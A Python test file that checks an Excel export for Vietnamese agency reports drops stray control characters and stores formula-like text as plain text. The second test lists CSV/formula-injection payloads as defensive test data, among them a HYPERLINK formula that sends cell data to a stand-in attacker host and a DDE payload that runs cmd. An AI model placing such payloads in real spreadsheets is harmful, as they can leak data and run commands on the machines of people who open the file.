"""The Excel side of the documents: what agencies typed survives, whatever it holds."""

import io
import zipfile

from openpyxl import load_workbook

from dxtrack.documents.spreadsheet import workbook_bytes
from dxtrack.documents.table_spec import Column, Row, TableSpec


def test_control_characters_pasted_from_a_pdf_are_dropped_not_fatal():
    table = TableSpec(
        name="Phụ lục",
        columns=(Column("TT", 10), Column("Mô tả", 120), Column("Số", 20, numeric=True)),
        rows=(Row(("1", "Đã số hóa\x0c 87,43%\x0b hồ sơ TTHC", 1099)),),
    )

    book = load_workbook(io.BytesIO(workbook_bytes([table], title="Kết quả thực hiện")))

    values = [c for row in book.active.iter_rows(values_only=True) for c in row if c]
    assert "Đã số hóa 87,43% hồ sơ TTHC" in values
    assert 1099 in values


def test_text_that_looks_like_a_formula_is_written_as_text_never_a_formula():
    hostile = [
        '=HYPERLINK("http://tan-cong.example/?d="&A1,"Xem")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
    ]
    table = TableSpec(
        name="Phụ lục",
        columns=(Column("TT", 10), Column("Mô tả", 120)),
        rows=tuple(Row((str(n), text)) for n, text in enumerate(hostile, start=1)),
    )
    data = workbook_bytes([table], title="Kết quả thực hiện")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    book = load_workbook(io.BytesIO(data))
    cells = {c.value: c for row in book.active.iter_rows() for c in row if c.value}
    for text in hostile:
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix
    assert not cells["1"].quotePrefix
